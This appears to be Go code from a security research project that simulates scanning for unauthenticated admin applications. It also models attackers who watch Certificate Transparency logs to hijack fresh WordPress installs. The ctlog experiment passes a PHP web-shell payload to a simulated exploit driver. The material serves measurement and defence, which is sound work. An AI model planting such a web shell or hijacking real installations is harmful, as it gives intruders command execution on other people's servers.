	}
}

// countingReader yields n zero bytes and records how many were consumed.
type countingReader struct{ n, read int64 }

func (r *countingReader) Read(p []byte) (int, error) {
	if r.read >= r.n {
		return 0, io.EOF
	}
	if int64(len(p)) > r.n-r.read {
		p = p[:r.n-r.read]
	}
	for i := range p {
		p[i] = 0
	}
	r.read += int64(len(p))
	return len(p), nil
}

func TestConnBudget(t *testing.T) {
	a, b := net.Pipe()
	defer a.Close()
	defer b.Close()
	go func() {
		buf := bytes.Repeat([]byte("y"), 64)
		for {
			if _, err := b.Write(buf); err != nil {
				return
			}
		}
	}()
	c := Conn(a, 100)
	got, err := io.ReadAll(io.LimitReader(c, 1<<20))
	if !errors.Is(err, ErrConnBudget) {
		t.Fatalf("err = %v, want ErrConnBudget", err)
	}
	if len(got) != 100 {
		t.Errorf("read %d bytes before budget, want 100", len(got))
	}
}

// notifyCloser flags Close calls.
type notifyCloser struct{ closed chan struct{} }

func (c *notifyCloser) Close() error {
	select {
	case <-c.closed:
	default:
		close(c.closed)
	}
	return nil
}

// firingSleeper delivers After immediately, letting watchdog tests prove
// termination without waiting out a wall budget.
type firingSleeper struct{}

func (firingSleeper) Now() time.Time { return time.Time{} }
func (firingSleeper) After(time.Duration) <-chan time.Time {
	ch := make(chan time.Time, 1)
	ch <- time.Time{}
	return ch
}

// stuckSleeper never fires.
type stuckSleeper struct{}

func (stuckSleeper) Now() time.Time                       { return time.Time{} }
func (stuckSleeper) After(time.Duration) <-chan time.Time { return make(chan time.Time) }

func TestWatchdogFires(t *testing.T) {
	c := &notifyCloser{closed: make(chan struct{})}
	stop := Watchdog(c, firingSleeper{}, time.Hour)
	defer stop()
	select {
	case <-c.closed:
	case <-time.After(5 * time.Second):
		t.Fatal("watchdog did not close the connection when the budget elapsed")
	}
}

func TestWatchdogStop(t *testing.T) {
	c := &notifyCloser{closed: make(chan struct{})}
	stop := Watchdog(c, stuckSleeper{}, time.Hour)
	stop()
	stop() // idempotent
	select {
	case <-c.closed:
		t.Fatal("stopped watchdog closed the connection")
	default:
	}
}

func TestWatchdogDefaultClock(t *testing.T) {
	c := &notifyCloser{closed: make(chan struct{})}
	stop := Watchdog(c, nil, time.Hour)
	stop()
}

// afterFuncSleeper exercises the goroutine-free scheduling path a clock
// can offer (simtime.Wall does): the watchdog must route through
// AfterFunc and hand back its stop.
type afterFuncSleeper struct {
	fire    *func() // captured callback, runnable by the test
	stopped *bool
}

func (afterFuncSleeper) Now() time.Time                       { return time.Time{} }
func (afterFuncSleeper) After(time.Duration) <-chan time.Time { return make(chan time.Time) }
func (s afterFuncSleeper) AfterFunc(_ time.Duration, f func()) func() {
	*s.fire = f
	return func() { *s.stopped = true }
}

func TestWatchdogUsesAfterFunc(t *testing.T) {
	var fire func()
	var stopped bool
	c := &notifyCloser{closed: make(chan struct{})}
	stop := Watchdog(c, afterFuncSleeper{fire: &fire, stopped: &stopped}, time.Hour)
	if fire == nil {
		t.Fatal("watchdog did not schedule through the clock's AfterFunc")
	}
	fire()
	select {
	case <-c.closed:
	default:
		t.Fatal("AfterFunc firing did not close the connection")
	}
	stop()
	if !stopped {
		t.Fatal("watchdog stop did not stop the scheduled timer")
	}
}

func TestWallAfterFuncFiresAndStops(t *testing.T) {
	fired := make(chan struct{})
	stop := simtime.Wall{}.AfterFunc(time.Millisecond, func() { close(fired) })
	defer stop()
	select {
	case <-fired:
	case <-time.After(5 * time.Second):
		t.Fatal("Wall.AfterFunc did not fire")
	}
	// A stopped timer must not fire: give it a real chance to misbehave.
	ran := false
	stop2 := simtime.Wall{}.AfterFunc(time.Hour, func() { ran = true })
	stop2()
	if ran {
		t.Fatal("stopped Wall.AfterFunc ran its callback")
	}
}

var _ simtime.Sleeper = firingSleeper{}

func gzipped(t *testing.T, payload []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write(payload); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGunzipRoundTrip(t *testing.T) {
	want := []byte("hello, bounded world")
	got, err := Gunzip(gzipped(t, want), 1<<20)
	if err != nil {
		t.Fatalf("Gunzip: %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("Gunzip = %q, want %q", got, want)
	}
}

func TestGunzipRatioCap(t *testing.T) {
	// 8 MiB of zeros compresses ~1000:1 — a textbook bomb.
	bomb := gzipped(t, make([]byte, 8<<20))
	if _, err := Gunzip(bomb, 1<<30); !errors.Is(err, ErrRatio) {
		t.Fatalf("err = %v, want ErrRatio", err)
	}
}

func TestGunzipMaxCap(t *testing.T) {
	// Incompressible data keeps the ratio near 1, so only the caller's cap
	// can trip.
	payload := make([]byte, 8<<10)
	x := uint64(0x9e3779b97f4a7c15)
	for i := range payload {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		payload[i] = byte(x)
	}
	if _, err := Gunzip(gzipped(t, payload), 1<<10); !errors.Is(err, ErrRatio) {
		t.Fatalf("err = %v, want ErrRatio", err)
	}
	if got, err := Gunzip(gzipped(t, payload), int64(len(payload))); err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("Gunzip under cap: err=%v", err)
	}
}
