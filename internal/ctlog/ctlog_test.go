package ctlog

import (
	"net/netip"
	"testing"
	"time"
)

var t0 = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

func TestLogSinceFiltersAndSorts(t *testing.T) {
	var l Log
	l.Append(Entry{Logged: t0.Add(3 * time.Hour), Domain: "c.example"})
	l.Append(Entry{Logged: t0.Add(time.Hour), Domain: "a.example"})
	l.Append(Entry{Logged: t0.Add(2 * time.Hour), Domain: "b.example"})

	got := l.Since(t0.Add(2 * time.Hour))
	if len(got) != 2 {
		t.Fatalf("Since returned %d entries, want 2", len(got))
	}
	if got[0].Domain != "b.example" || got[1].Domain != "c.example" {
		t.Fatalf("wrong order: %v", got)
	}
	if l.Len() != 3 {
		t.Fatalf("Len = %d", l.Len())
	}
}

func TestSinceIsInclusive(t *testing.T) {
	var l Log
	l.Append(Entry{Logged: t0, Domain: "x", IP: netip.MustParseAddr("10.0.0.1")})
	if got := l.Since(t0); len(got) != 1 {
		t.Fatalf("Since(t0) = %d entries, want 1 (inclusive)", len(got))
	}
}

// TestCTAttackerBeatsSweepAttacker is the Section-6.2 hypothesis: watching
// certificate transparency finds hijackable installations far faster than
// sweeping the address space.
func TestCTAttackerBeatsSweepAttacker(t *testing.T) {
	if testing.Short() {
		t.Skip("experiment replays a week of deployments")
	}
	res, err := RunExperiment(ExperimentConfig{
		Seed:        9,
		Deployments: 120,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.CTHijacked == 0 {
		t.Fatal("CT attacker hijacked nothing")
	}
	if res.CTHijacked <= res.SweepHijacked {
		t.Fatalf("CT attacker (%d) must beat the sweep attacker (%d): %s",
			res.CTHijacked, res.SweepHijacked, res)
	}
	// With hourly polling vs an Exp(12h) install delay, the CT attacker
	// should win most races.
	if rate := res.Rate(res.CTHijacked); rate < 0.5 {
		t.Errorf("CT hijack rate %.2f, want >0.5", rate)
	}
}
