package ctlog

import (
	"context"
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/attacker"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

// Experiment quantifies the CT-log advantage: fresh WordPress deployments
// appear over time (TLS issuance logged to CT), their owners complete the
// installation after a while, and two attacker strategies race the owners:
//
//   - the sweep attacker re-scans the whole address space on a fixed
//     period, reaching any given host at a uniformly random point of each
//     sweep (the paper's attackers, Section 4);
//   - the CT attacker polls the certificate log and attacks new domains
//     immediately (the Section 6.2 hypothesis).
//
// A deployment is hijacked if an attacker reaches it while the
// installation is still open.
type ExperimentConfig struct {
	Seed int64
	// Deployments is the number of fresh installs appearing over the
	// window (default 200).
	Deployments int
	// MeanInstallDelay is the mean time owners take to finish installing
	// (default 12h, exponentially distributed).
	MeanInstallDelay time.Duration
	// SweepPeriod is how long one full-IPv4 sweep takes (default 24h).
	SweepPeriod time.Duration
	// PollInterval is the CT attacker's log polling cadence (default 1h).
	PollInterval time.Duration
	// Window is the deployment window (default 7 days).
	Window time.Duration
}

func (c *ExperimentConfig) fill() {
	if c.Deployments == 0 {
		c.Deployments = 200
	}
	if c.MeanInstallDelay == 0 {
		c.MeanInstallDelay = 12 * time.Hour
	}
	if c.SweepPeriod == 0 {
		c.SweepPeriod = 24 * time.Hour
	}
	if c.PollInterval == 0 {
		c.PollInterval = time.Hour
	}
	if c.Window == 0 {
		c.Window = 7 * 24 * time.Hour
	}
}

// ExperimentResult summarizes the race.
type ExperimentResult struct {
	Deployments int
	// SweepHijacked / CTHijacked count installs each strategy won before
	// the owner completed them.
	SweepHijacked int
	CTHijacked    int
}

// Rate returns hijacks/deployments for the given count.
func (r ExperimentResult) Rate(hijacked int) float64 {
	if r.Deployments == 0 {
		return 0
	}
	return float64(hijacked) / float64(r.Deployments)
}

func (r ExperimentResult) String() string {
	return fmt.Sprintf("deployments=%d sweep-hijacked=%d (%.0f%%) ct-hijacked=%d (%.0f%%)",
		r.Deployments, r.SweepHijacked, 100*r.Rate(r.SweepHijacked), r.CTHijacked, 100*r.Rate(r.CTHijacked))
}

// RunExperiment executes the race on a simulated clock with real emulated
// deployments: the CT attacker performs the genuine WordPress install
// hijack over HTTP.
func RunExperiment(cfg ExperimentConfig) (ExperimentResult, error) {
	cfg.fill()
	rng := rand.New(rand.NewSource(cfg.Seed))
	start := time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)
	sim := simtime.NewSim(start)
	net := simnet.New()
	ca, err := httpsim.NewCA()
	if err != nil {
		return ExperimentResult{}, err
	}
	log := &Log{}
	res := ExperimentResult{Deployments: cfg.Deployments}

	type deployment struct {
		inst *apps.Instance
		ip   netip.Addr
	}
	deployments := make(map[netip.Addr]*deployment)

	ctAttackerIP := netip.MustParseAddr("203.0.113.66")
	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: ctAttackerIP, DisableKeepAlives: true})

	for i := 0; i < cfg.Deployments; i++ {
		i := i
		deployAt := start.Add(time.Duration(rng.Float64() * float64(cfg.Window)))
		installDelay := time.Duration(rng.ExpFloat64() * float64(cfg.MeanInstallDelay))
		// The sweep attacker reaches this host at a uniformly random
		// offset within its current sweep.
		sweepArrival := time.Duration(rng.Float64() * float64(cfg.SweepPeriod))

		ip := netip.AddrFrom4([4]byte{10, 50, byte(i >> 8), byte(i)})
		domain := fmt.Sprintf("new-site-%04d.example.org", i)

		sim.At(deployAt, func(now time.Time) {
			inst, err := apps.New(apps.Config{App: mav.WordPress, Installed: false})
			if err != nil {
				return
			}
			cert, err := ca.CertFor(domain, ip.String())
			if err != nil {
				return
			}
			host := simnet.NewHost(ip)
			host.Bind(443, httpsim.TLSConnHandler(inst.Handler(), cert))
			if net.AddHost(host) != nil {
				return
			}
			deployments[ip] = &deployment{inst: inst, ip: ip}
			// Certificate issuance hits the CT log at deployment time.
			log.Append(Entry{Logged: now, Domain: domain, IP: ip, Port: 443})

			// The owner finishes the installation later (if nobody beat
			// them to it).
			sim.After(installDelay, func(time.Time) {
				inst.CompleteInstall("", "owner-password")
			})
			// The sweep attacker arrives mid-sweep; a hijack succeeds only
			// if the install is still open.
			sim.After(sweepArrival, func(time.Time) {
				if inst.CompleteInstall("sweep-attacker", "pwned") {
					res.SweepHijacked++
				}
			})
		})
	}

	// The CT attacker polls the log and attacks every new entry with the
	// real install-hijack driver.
	var lastPoll time.Time = start
	sim.Every(start.Add(cfg.PollInterval), cfg.PollInterval, start.Add(cfg.Window+cfg.SweepPeriod+48*time.Hour), func(now time.Time) {
		for _, e := range log.Since(lastPoll) {
			dep, ok := deployments[e.IP]
			if !ok || dep.inst.Installed() {
				continue
			}
			base := fmt.Sprintf("https://%s:%d", e.IP, e.Port)
			if err := attacker.Exploit(context.Background(), client, mav.WordPress, base, "<?php system($_GET['c']); ?>"); err == nil {
				if dep.inst.InstalledBy() == ctAttackerIP.String() {
					res.CTHijacked++
				}
			}
		}
		lastPoll = now
	})

	sim.Run()
	return res, nil
}
