// Package ctlog implements the Certificate Transparency side channel the
// paper's limitations section calls out (Section 6.2): attackers do not
// need to sweep the whole IPv4 space — newly issued certificates reveal
// newly deployed domains, and freshly deployed CMSes sit in their
// hijackable pre-installation window for a while. Watching the CT stream
// finds those installs far faster than an Internet-wide scan.
//
// The log is fed by the simulation wherever a certificate is minted for a
// new host, mirroring how real CAs log issuance.
package ctlog

import (
	"net/netip"
	"sort"
	"sync"
	"time"
)

// Entry is one logged certificate issuance.
type Entry struct {
	// Logged is the issuance time (simulated).
	Logged time.Time
	// Domain is the certificate's primary subject.
	Domain string
	// IP is the host the simulation deployed the certificate on. Real CT
	// entries carry no address; consumers resolve the domain — in the
	// simulation the mapping is direct.
	IP netip.Addr
	// Port is the TLS port observed serving the certificate.
	Port int
}

// Log is an append-only certificate transparency log. The zero value is
// ready to use.
type Log struct {
	mu      sync.RWMutex
	entries []Entry
}

// Append records one issuance.
func (l *Log) Append(e Entry) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.entries = append(l.entries, e)
}

// Len returns the number of logged entries.
func (l *Log) Len() int {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return len(l.entries)
}

// Since returns the entries logged at or after t, ascending by time — the
// "newly registered domains" feed an attacker would poll.
func (l *Log) Since(t time.Time) []Entry {
	l.mu.RLock()
	defer l.mu.RUnlock()
	var out []Entry
	for _, e := range l.entries {
		if !e.Logged.Before(t) {
			out = append(out, e)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Logged.Before(out[j].Logged) })
	return out
}
