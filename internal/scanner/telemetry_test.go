package scanner

import (
	"context"
	"net/netip"
	"testing"
	"time"

	"mavscan/internal/mav"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// TestPipelineTelemetryReconciles runs an instrumented pipeline and checks
// that the exported counters reconcile with the report and with each
// other: every (ip, port) pair is either probed or excluded, and the
// funnel from open ports down to findings is monotone non-increasing.
func TestPipelineTelemetryReconciles(t *testing.T) {
	n, vulnIP, _ := deployPair(t, mav.Jenkins)
	reg := telemetry.New(simtime.NewSim(time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)))

	pipe := New(n, WithTelemetry(reg))
	report, err := pipe.Run(context.Background(), Options{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/27")},
		Exclude: []netip.Prefix{netip.MustParsePrefix("10.0.0.16/28")},
	})
	if err != nil {
		t.Fatal(err)
	}

	probes := reg.CounterValue("mavscan_portscan_probes_total")
	excluded := reg.CounterValue("mavscan_portscan_excluded_total")
	open := reg.CounterValue("mavscan_portscan_open_total")

	// Conservation: the scanned space splits exactly into sent and
	// excluded probes.
	space := uint64(32) * uint64(len(mav.ScanPorts()))
	if probes+excluded != space {
		t.Errorf("probes(%d) + excluded(%d) != |targets|x|ports| (%d)", probes, excluded, space)
	}
	if excluded != uint64(16)*uint64(len(mav.ScanPorts())) {
		t.Errorf("excluded = %d, want 16 x %d", excluded, len(mav.ScanPorts()))
	}

	// The counters must agree with the report's Stats.
	if probes != report.Stats.Probed {
		t.Errorf("probes_total = %d, Stats.Probed = %d", probes, report.Stats.Probed)
	}
	if open != report.Stats.Open {
		t.Errorf("open_total = %d, Stats.Open = %d", open, report.Stats.Open)
	}

	// Funnel: open ports >= prefilter probes (== here: every open port is
	// probed) >= responders >= matched endpoints >= Stage-III targets, and
	// findings never exceed targets.
	preProbes := reg.CounterValue("mavscan_prefilter_probes_total")
	responders := reg.CounterValue("mavscan_prefilter_responders_total")
	matched := reg.CounterValue("mavscan_prefilter_matched_endpoints_total")
	targets := reg.CounterValue("mavscan_tsunami_targets_total")
	findings := reg.CounterValue("mavscan_tsunami_findings_total")
	if preProbes != open {
		t.Errorf("prefilter probed %d endpoints, portscan reported %d open", preProbes, open)
	}
	for _, step := range []struct {
		name string
		hi   uint64
		lo   uint64
	}{
		{"probes >= responders", preProbes, responders},
		{"responders >= matched", responders, matched},
		{"matched >= targets", matched, targets},
		{"targets >= findings", targets, findings},
	} {
		if step.hi < step.lo {
			t.Errorf("funnel not monotone: %s violated (%d < %d)", step.name, step.hi, step.lo)
		}
	}
	if findings == 0 {
		t.Error("instrumented scan found no MAV on the vulnerable host")
	}

	// Per-app matches must sum to at least the matched-endpoint count
	// (an endpoint can match several app signatures).
	if perApp := reg.CounterFamilyTotal("mavscan_prefilter_matches_total"); perApp < matched {
		t.Errorf("per-app matches (%d) < matched endpoints (%d)", perApp, matched)
	}

	// Fingerprinting runs once per Stage-III target.
	if fp := reg.CounterFamilyTotal("mavscan_fingerprint_total"); fp != targets {
		t.Errorf("fingerprint runs (%d) != stage-III targets (%d)", fp, targets)
	}

	// The span tree must contain the pipeline root with both stage
	// children attached to it.
	spans, dropped := reg.Spans()
	if dropped != 0 {
		t.Errorf("span log dropped %d spans", dropped)
	}
	byName := map[string]telemetry.SpanRecord{}
	for _, s := range spans {
		byName[s.Name] = s
	}
	root, ok := byName["pipeline.run"]
	if !ok {
		t.Fatalf("missing pipeline.run span (have %v)", byName)
	}
	for _, child := range []string{"stage1.portscan", "stage23.workers"} {
		s, ok := byName[child]
		if !ok {
			t.Fatalf("missing %s span", child)
		}
		if s.Parent != root.ID {
			t.Errorf("%s parent = %d, want root %d", child, s.Parent, root.ID)
		}
	}

	// Report observed something: the vulnerable host must be in Apps.
	found := false
	for _, obs := range report.Apps {
		if obs.IP == vulnIP {
			found = true
		}
	}
	if !found {
		t.Error("vulnerable host missing from report")
	}
}
