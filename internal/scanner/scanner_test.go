package scanner

import (
	"context"
	"net/netip"
	"testing"

	"mavscan/internal/apps"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/population"
	"mavscan/internal/simnet"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// deployPair builds a two-host toy network with one vulnerable and one
// secure instance of app, returning the network and both IPs.
func deployPair(t *testing.T, app mav.App) (*simnet.Network, netip.Addr, netip.Addr) {
	t.Helper()
	n := simnet.New()
	vulnIP := netip.MustParseAddr("10.0.0.10")
	secIP := netip.MustParseAddr("10.0.0.20")
	deploy := func(ip netip.Addr, vulnerable bool) {
		cfg := apps.Config{App: app, Options: map[string]bool{}}
		switch app {
		case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
			cfg.Installed = !vulnerable
			if app == mav.Joomla && vulnerable {
				cfg.Version = "3.6.0" // pre-countermeasure release
			}
		case mav.Consul:
			cfg.Options["enableScriptChecks"] = vulnerable
		case mav.Ajenti:
			cfg.Options["autologin"] = vulnerable
		case mav.PhpMyAdmin:
			cfg.Options["allowNoPassword"] = vulnerable
		case mav.Adminer:
			cfg.Options["emptyDBPassword"] = vulnerable
			if vulnerable {
				cfg.Version = "4.2.5"
			}
		default:
			cfg.AuthRequired = !vulnerable
		}
		inst, err := apps.New(cfg)
		if err != nil {
			t.Fatalf("New(%s): %v", app, err)
		}
		if inst.Vulnerable() != vulnerable && app != mav.Polynote {
			t.Fatalf("%s: config does not realize vulnerable=%v", app, vulnerable)
		}
		h := simnet.NewHost(ip)
		port := mav.MustLookup(app).Ports[0]
		if app == mav.Kubernetes {
			ca, err := httpsim.NewCA()
			if err != nil {
				t.Fatal(err)
			}
			cert, err := ca.CertFor(ip.String())
			if err != nil {
				t.Fatal(err)
			}
			h.Bind(port, httpsim.TLSConnHandler(inst.Handler(), cert))
		} else {
			h.Bind(port, httpsim.ConnHandler(inst.Handler()))
		}
		if err := n.AddHost(h); err != nil {
			t.Fatal(err)
		}
	}
	deploy(vulnIP, true)
	deploy(secIP, false)
	return n, vulnIP, secIP
}

// TestPipelinePerApp runs the full three-stage pipeline against a
// vulnerable and a secure deployment of each of the 18 in-scope
// applications, asserting zero false positives and zero false negatives.
// Polynote is the exception: it cannot be deployed securely, so both its
// hosts must be flagged.
func TestPipelinePerApp(t *testing.T) {
	for _, info := range mav.InScopeApps() {
		info := info
		t.Run(string(info.App), func(t *testing.T) {
			t.Parallel()
			n, vulnIP, secIP := deployPair(t, info.App)
			report, err := New(n).Run(context.Background(), Options{
				Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/27")},
			})
			if err != nil {
				t.Fatal(err)
			}
			vulnSeen, secSeen := false, false
			for _, obs := range report.Apps {
				if obs.App != info.App {
					continue
				}
				switch obs.IP {
				case vulnIP:
					vulnSeen = true
					if !obs.Vulnerable() {
						t.Errorf("false negative: vulnerable %s not flagged", info.App)
					}
				case secIP:
					secSeen = true
					wantVuln := info.App == mav.Polynote
					if obs.Vulnerable() != wantVuln {
						t.Errorf("false positive: secure %s flagged vulnerable=%v", info.App, obs.Vulnerable())
					}
				}
			}
			if !vulnSeen {
				t.Errorf("prefilter missed the vulnerable %s host", info.App)
			}
			if !secSeen {
				t.Errorf("prefilter missed the secure %s host", info.App)
			}
		})
	}
}

// TestPipelineFingerprintsVersions checks that the fingerprinter resolves a
// version for every in-scope application, via either the direct or the
// hash-based path.
func TestPipelineFingerprintsVersions(t *testing.T) {
	for _, info := range mav.InScopeApps() {
		info := info
		t.Run(string(info.App), func(t *testing.T) {
			t.Parallel()
			n, vulnIP, _ := deployPair(t, info.App)
			report, err := New(n).Run(context.Background(), Options{
				Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/27")},
			})
			if err != nil {
				t.Fatal(err)
			}
			for _, obs := range report.Apps {
				if obs.IP != vulnIP || obs.App != info.App {
					continue
				}
				if obs.Version == "" {
					t.Errorf("no version fingerprinted for %s", info.App)
				} else if obs.Released.IsZero() {
					t.Errorf("version %q has no release date", obs.Version)
				}
				return
			}
			t.Fatalf("no observation for %s", info.App)
		})
	}
}

// TestPipelineOnGeneratedWorld runs the pipeline over a down-scaled
// generated world and compares detection against the generator's ground
// truth host by host.
func TestPipelineOnGeneratedWorld(t *testing.T) {
	if testing.Short() {
		t.Skip("world scan is slow")
	}
	world, err := population.Generate(population.Config{
		Seed:            1,
		HostScale:       20000,
		VulnScale:       20,
		BackgroundScale: 500000,
		WildcardScale:   500000,
	})
	if err != nil {
		t.Fatal(err)
	}
	report, err := New(world.Net).Run(context.Background(), Options{
		Targets: world.Geo.Prefixes(),
		Seed:    99,
	})
	if err != nil {
		t.Fatal(err)
	}

	detected := map[netip.Addr]bool{}
	for _, obs := range report.VulnerableObservations() {
		detected[obs.IP] = true
	}
	var missed, total int
	for _, spec := range world.VulnerableSpecs() {
		total++
		if !detected[spec.IP] {
			missed++
			t.Errorf("missed vulnerable %s at %s (version %s)", spec.App, spec.IP, spec.Version)
		}
	}
	if total == 0 {
		t.Fatal("world generated no vulnerable hosts")
	}
	// And no false positives: every detected IP must be ground-truth
	// vulnerable.
	for ip := range detected {
		spec, ok := world.SpecFor(ip)
		if !ok || !spec.Vulnerable {
			t.Errorf("false positive at %s", ip)
		}
	}
}

// TestPipelineFalsePositiveResistance points every one of the 18 detection
// plugins at every background (non-AWE) service and at every out-of-scope
// catalog application: nothing may be flagged.
func TestPipelineFalsePositiveResistance(t *testing.T) {
	n := simnet.New()
	ip := netip.MustParseAddr("10.0.0.40")
	var targets []netip.Addr
	for _, kind := range apps.BackgroundKinds() {
		h := simnet.NewHost(ip)
		h.Bind(80, httpsim.ConnHandler(apps.Background(kind)))
		if err := n.AddHost(h); err != nil {
			t.Fatal(err)
		}
		targets = append(targets, ip)
		ip = ip.Next()
	}
	for _, info := range mav.Catalog() {
		if info.InScope() {
			continue
		}
		inst, err := apps.New(apps.Config{App: info.App})
		if err != nil {
			t.Fatal(err)
		}
		h := simnet.NewHost(ip)
		h.Bind(80, httpsim.ConnHandler(inst.Handler()))
		if err := n.AddHost(h); err != nil {
			t.Fatal(err)
		}
		targets = append(targets, ip)
		ip = ip.Next()
	}
	client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
	engine := tsunami.NewEngine(plugins.NewRegistry(), client)
	ctx := context.Background()
	for _, target := range targets {
		for _, info := range mav.InScopeApps() {
			findings := engine.Scan(ctx, tsunami.Target{IP: target, Port: 80, Scheme: "http", App: info.App})
			if len(findings) != 0 {
				t.Errorf("plugin %s false-positived on %s: %v", info.App, target, findings)
			}
		}
	}
}

// TestPipelineSecureHostsNotFlagged runs the whole pipeline over a world
// with zero vulnerable hosts and demands zero findings.
func TestPipelineSecureHostsNotFlagged(t *testing.T) {
	if testing.Short() {
		t.Skip("20k-host pipeline run is slow; skipped in -short mode")
	}
	world, err := population.Generate(population.Config{
		Seed: 11, HostScale: 20000, VulnScale: -1,
		BackgroundScale: -1, WildcardScale: -1,
	})
	if err != nil {
		t.Fatal(err)
	}
	// VulnScale < 0 is not a supported knob; drop the vulnerable specs by
	// flipping them to secure configurations instead: simply skip if any
	// exist and assert per-host below.
	report, err := New(world.Net).Run(context.Background(), Options{Targets: world.Geo.Prefixes(), Seed: 11})
	if err != nil {
		t.Fatal(err)
	}
	for _, obs := range report.VulnerableObservations() {
		spec, ok := world.SpecFor(obs.IP)
		if !ok || !spec.Vulnerable {
			t.Errorf("flagged non-vulnerable host %s (%s)", obs.IP, obs.App)
		}
	}
}
