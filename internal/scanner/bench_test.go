package scanner

import (
	"net/netip"
	"sync/atomic"
	"testing"

	"mavscan/internal/mav"
	"mavscan/internal/prefilter"
)

// BenchmarkScannerAggregation measures the aggregation hot path fed by the
// Stage-II worker pool: concurrent observe calls recording open ports,
// protocol responders, and first-seen app observations. The aggregator is
// sharded by host address, so parallel workers should rarely collide on a
// mutex.
func BenchmarkScannerAggregation(b *testing.B) {
	// 4096 distinct hosts, each repeatedly observed on a handful of ports —
	// the shape of a scan where hosts answer on several ports.
	addrs := make([]netip.Addr, 4096)
	for i := range addrs {
		addrs[i] = netip.AddrFrom4([4]byte{10, 0, byte(i >> 8), byte(i)})
	}
	ports := []int{80, 443, 8080, 8443}
	results := []prefilter.Result{
		{},
		{HTTP: true},
		{HTTP: true, HTTPS: true},
		{HTTP: true, Apps: []mav.App{mav.Jenkins}, Scheme: "http"},
	}
	agg := newAggregator()
	var seq atomic.Uint64
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			i := seq.Add(1)
			ip := addrs[i&4095]
			agg.observe(ip, ports[i&3], results[(i>>2)&3])
		}
	})
	b.StopTimer()
	report := &Report{OpenPorts: map[int]int{}, HTTPResponses: map[int]int{}, HTTPSResponses: map[int]int{}}
	agg.fold(report, len(ports))
}
