package scanner

import (
	"net/netip"
	"sort"
	"sync"

	"mavscan/internal/mav"
	"mavscan/internal/prefilter"
	"mavscan/internal/tsunami"
)

// hostAgg accumulates per-host pipeline state across stages.
type hostAgg struct {
	openPorts map[int]bool
	anyHTTP   bool
	// apps maps app -> best observation so far (dedup across ports).
	apps map[mav.App]*AppObservation
}

// aggShards is the aggregator fan-out. Keyed by the low address byte so
// hosts inside one scanned prefix spread across every shard.
const aggShards = 64

type aggShard struct {
	mu    sync.Mutex
	hosts map[netip.Addr]*hostAgg
	// Per-port protocol-responder counters, merged into the report at fold
	// time so Stage-II workers never contend on one global counter map.
	httpResponses  map[int]int
	httpsResponses map[int]int
}

// aggregator collects pipeline observations contention-free: state is
// sharded by host address, so the HTTP worker pool synchronizes on
// per-shard mutexes instead of a single pipeline-wide lock.
type aggregator struct {
	shards [aggShards]aggShard
}

func newAggregator() *aggregator {
	a := &aggregator{}
	for i := range a.shards {
		sh := &a.shards[i]
		sh.hosts = make(map[netip.Addr]*hostAgg)
		sh.httpResponses = make(map[int]int)
		sh.httpsResponses = make(map[int]int)
	}
	return a
}

func (a *aggregator) shardFor(ip netip.Addr) *aggShard {
	b := ip.As4()
	return &a.shards[int(b[3])&(aggShards-1)]
}

// observe records one open port and its Stage-II prefilter outcome, and
// returns the Stage-III targets this observation newly created (the first
// matching port per (host, app) wins, deduplicating across ports).
func (a *aggregator) observe(ip netip.Addr, port int, res prefilter.Result) []tsunami.Target {
	sh := a.shardFor(ip)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	agg := sh.hosts[ip]
	if agg == nil {
		agg = &hostAgg{openPorts: map[int]bool{}, apps: map[mav.App]*AppObservation{}}
		sh.hosts[ip] = agg
	}
	agg.openPorts[port] = true
	if res.HTTP {
		sh.httpResponses[port]++
		agg.anyHTTP = true
	}
	if res.HTTPS {
		sh.httpsResponses[port]++
		agg.anyHTTP = true
	}
	var todo []tsunami.Target
	for _, app := range res.Apps {
		if _, seen := agg.apps[app]; seen {
			continue
		}
		agg.apps[app] = &AppObservation{IP: ip, App: app, Port: port, Scheme: res.Scheme}
		todo = append(todo, tsunami.Target{IP: ip, Port: port, Scheme: res.Scheme, App: app})
	}
	return todo
}

// update applies fn to the observation for (ip, app) under the owning
// shard's lock. The observation must exist (created by observe).
func (a *aggregator) update(ip netip.Addr, app mav.App, fn func(*AppObservation)) {
	sh := a.shardFor(ip)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	fn(sh.hosts[ip].apps[app])
}

// fold merges every shard into the report, excluding the all-ports-open
// artifact hosts (hosts where every scanned port was open yet nothing spoke
// HTTP) as the paper did for Table 2. It must only be called after all
// workers have finished.
func (a *aggregator) fold(report *Report, nPorts int) {
	for i := range a.shards {
		sh := &a.shards[i]
		for port, c := range sh.httpResponses {
			report.HTTPResponses[port] += c
		}
		for port, c := range sh.httpsResponses {
			report.HTTPSResponses[port] += c
		}
		for _, agg := range sh.hosts {
			if len(agg.openPorts) == nPorts && !agg.anyHTTP {
				report.ArtifactHosts++
				continue
			}
			for port := range agg.openPorts {
				report.OpenPorts[port]++
			}
